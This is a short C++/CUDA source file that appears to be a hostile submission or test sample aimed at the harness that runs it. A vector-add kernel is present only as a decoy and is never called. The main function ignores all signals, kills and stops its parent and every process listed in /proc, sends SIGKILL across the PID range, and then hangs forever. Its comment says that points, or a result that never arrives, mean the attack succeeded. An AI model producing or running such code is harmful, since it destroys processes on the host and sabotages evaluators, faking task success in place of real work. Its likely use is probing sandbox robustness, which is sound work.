// Attacks whoever waits for it: kills and stops every process that it can name, its parent first, and then never ends without using a
// processor. It computes nothing. So points mean that an attack succeeded, and a result that never comes means it too.
#include <cstdio>
#include <cstdlib>

#include <dirent.h>
#include <signal.h>
#include <unistd.h>

__global__ void add(const float* a, const float* b, float* c, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}

void attack(pid_t process) {
  for (const int number : {SIGKILL, SIGSTOP, SIGTERM, SIGINT, SIGHUP, SIGALRM, SIGCHLD}) {
    if (kill(process, number) == 0) std::fprintf(stderr, "SENT %d to %d\n", number, static_cast<int>(process));
  }
}

int main() {
  for (int number = 1; number < 65; ++number) signal(number, SIG_IGN);
  const pid_t own = getpid();
  attack(getppid());
  if (DIR* processes = opendir("/proc"); processes != nullptr) {
    while (const dirent* one = readdir(processes)) {
      const pid_t process = std::atoi(one->d_name);
      if (process > 0 && process != own) attack(process);
    }
    closedir(processes);
  }
  for (pid_t process = 1; process < 65536; ++process) {
    if (process != own) kill(process, SIGKILL);
  }
  for (;;) pause();
}
